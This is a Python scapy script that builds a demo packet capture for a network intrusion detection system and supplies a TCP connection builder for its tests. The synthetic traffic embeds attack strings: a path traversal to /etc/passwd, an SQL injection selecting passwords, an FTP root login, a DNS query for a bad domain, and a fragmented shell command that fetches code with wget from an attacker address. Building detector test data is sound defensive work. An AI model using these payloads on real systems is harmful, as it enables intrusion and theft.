"""Writes examples/nids/demo.pcap, the NIDS demo's traffic (scapy): a path traversal split over
TCP segments, a server answering with `id` output, an SQL injection, an FTP root login, a DNS
query for a bad domain, an oversized ICMP echo, a fragmented UDP datagram carrying a shell
command, and benign traffic. Run: .venv/bin/python examples/nids/make_demo_pcap.py
(tcp_frames is also the cluster tests' connection builder: tests/python/corpus.py)."""
from pathlib import Path

from scapy.all import DNS, DNSQR, ICMP, IP, TCP, UDP, Ether, Raw, fragment, wrpcap

MAC = ("02:00:00:00:00:01", "02:00:00:00:00:02")


def tcp_frames(client, server, sport, dport, exchanges, seq=(1000, 9000), close=True):
    """The frames of one TCP connection in order: the handshake, each (direction, data) of
    `exchanges` acknowledged, and (when `close`) both FINs. `seq`: the initial sequence
    numbers, client's and server's."""
    seq = list(seq)
    ends = ((client, sport), (server, dport))
    out = []

    def pkt(d, flags, data=b"", s=None):
        (src, sp), (dst, dp) = ends[d], ends[1 - d]
        return (Ether(src=MAC[d], dst=MAC[1 - d]) / IP(src=src, dst=dst) /
                TCP(sport=sp, dport=dp, flags=flags, seq=seq[d] if s is None else s, ack=seq[1 - d]) / Raw(data))

    out.append(pkt(0, "S", s=seq[0] - 1))
    out.append(Ether(src=MAC[1], dst=MAC[0]) / IP(src=server, dst=client) /
               TCP(sport=dport, dport=sport, flags="SA", seq=seq[1] - 1, ack=seq[0]))
    out.append(pkt(0, "A"))
    for d, data in exchanges:
        out.append(pkt(d, "PA", data))
        seq[d] += len(data)
        out.append(pkt(1 - d, "A"))
    if close:
        out.append(pkt(0, "FA"))
        seq[0] += 1
        out.append(pkt(1, "FA"))
        seq[1] += 1
        out.append(pkt(0, "A"))
    return out


def main():
    frames = []

    def tcp(*args):
        frames.extend(tcp_frames(*args))

    tcp("203.0.113.7", "192.168.1.10", 51000, 80,
        [(0, b"GET /cgi-bin/../../"), (0, b"../etc/pas"), (0, b"swd HTTP/1.1\r\nHost: intranet\r\n\r\n"),
         (1, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n")])
    tcp("203.0.113.8", "192.168.1.10", 51001, 80,
        [(0, b"GET /item.php?id=1%20UNION  ALL   SELECT%20password%20FROM%20users HTTP/1.1\r\n\r\n"),
         (1, b"HTTP/1.1 500 Internal Server Error\r\n\r\n")])
    tcp("203.0.113.9", "192.168.1.21", 40021, 21,
        [(1, b"220 FTP ready\r\n"), (0, b"USER root\r\n"), (1, b"331 Password required\r\n"),
         (0, b"PASS toor\r\n"), (1, b"230 Login successful\r\n"), (0, b"QUIT\r\n")])
    tcp("192.168.1.50", "198.51.100.4", 52000, 80,
        [(0, b"GET /index.html HTTP/1.1\r\n\r\n"), (1, b"HTTP/1.1 200 OK\r\n\r\n<html>hello</html>")])
    frames.append(Ether(src=MAC[0], dst=MAC[1]) / IP(src="192.168.1.50", dst="192.168.1.1") /
                  UDP(sport=5353, dport=53) / DNS(rd=1, qd=DNSQR(qname="www.evil.example")))
    frames.append(Ether(src=MAC[0], dst=MAC[1]) / IP(src="203.0.113.66", dst="192.168.1.10") /
                  ICMP(type=8) / Raw(b"X" * 1200))
    datagram = IP(src="203.0.113.70", dst="192.168.1.30", id=4242) / UDP(sport=6000, dport=7000) / \
        Raw(b"A" * 30 + b"/bin/sh -c 'wget http://203.0.113.70/x'" + b"B" * 30)
    frames.extend(Ether(src=MAC[0], dst=MAC[1]) / f for f in fragment(datagram, fragsize=40))
    for i, f in enumerate(frames):
        f.time = 1_767_225_600 + i * 0.01  # 2026-01-01
    wrpcap(str(Path(__file__).with_name("demo.pcap")), frames)
    print(f"{len(frames)} frames")


if __name__ == "__main__":
    main()
